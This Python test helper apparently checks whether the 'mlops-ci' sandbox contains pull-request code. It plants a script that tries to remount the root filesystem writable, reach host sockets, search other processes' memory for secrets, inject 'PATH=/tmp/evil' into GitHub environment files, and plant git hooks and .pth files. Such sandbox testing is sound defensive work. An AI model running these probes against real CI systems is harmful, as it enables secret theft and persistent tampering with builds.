"""A training command that tries what the pull request's code could try against mlops-ci, and
writes what it found to ``findings.json`` in its working folder (then trains, when asked)."""

from __future__ import annotations

from pathlib import Path

ATTACK = r"""
import json, os, pathlib, socket, subprocess, sys

found = {"environ": [], "cmdline": [], "fds": [], "appended": [], "wrote": {}}
# As root, a sandbox that kept its capabilities lets the command make / writable again.
found["remounted"] = subprocess.run(
    ["mount", "-o", "remount,bind,rw", "/"], capture_output=True
).returncode == 0
sock = pathlib.Path("socket.txt")
if sock.is_file():  # a unix socket of the host's (the Docker socket, an ssh agent)
    client = socket.socket(socket.AF_UNIX)
    try:
        client.connect(sock.read_text().strip())
        found["connected"] = True
    except OSError:
        found["connected"] = False
    client.close()
secrets = pathlib.Path("secrets.txt").read_text().split()
for proc in pathlib.Path("/proc").iterdir():
    if not proc.name.isdigit() or proc.name == str(os.getpid()):
        continue
    for part, key in (("environ", "environ"), ("cmdline", "cmdline")):
        try:
            data = (proc / part).read_bytes()
        except OSError:
            continue
        if any(s.encode() in data for s in secrets):
            found[key].append(proc.name)
for fd in os.listdir("/proc/self/fd"):
    try:
        target = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if int(fd) > 2 and not target.startswith("/proc/"):
        found["fds"].append(f"{fd} -> {target}")
for name, value in os.environ.items():
    if name.startswith("GITHUB_") and os.path.isfile(value):
        try:
            with open(value, "a") as fh:
                fh.write("PATH=/tmp/evil\n")
            found["appended"].append(name)
        except OSError:
            pass
for where in (
    ".mlops/planted.json", ".git/hooks/post-checkout", ".venv/site-packages/zz-planted.pth",
    "planted.txt",
):
    try:
        pathlib.Path(where).parent.mkdir(parents=True, exist_ok=True)
        pathlib.Path(where).write_text("planted")
        found["wrote"][where] = True
    except OSError:
        found["wrote"][where] = False
tmp = pathlib.Path(os.environ.get("TMPDIR", "/tmp")) / "scratch"
tmp.write_text("ok")
found["tmp"] = tmp.read_text()
pathlib.Path("findings.json").write_text(json.dumps(found))
"""


def plant(folder: Path, secrets: list[str], then_train: bool = False) -> None:
    """Put the attack in ``folder``: ``attack.py`` alone, or at the top of ``train.py``; the
    values it looks for in ``secrets.txt`` (not in its environment, where it would find them)."""
    (folder / "secrets.txt").write_text("\n".join(secrets))
    if then_train:
        train = folder / "train.py"
        train.write_text(ATTACK + "\n" + train.read_text())
    else:
        (folder / "attack.py").write_text(ATTACK)
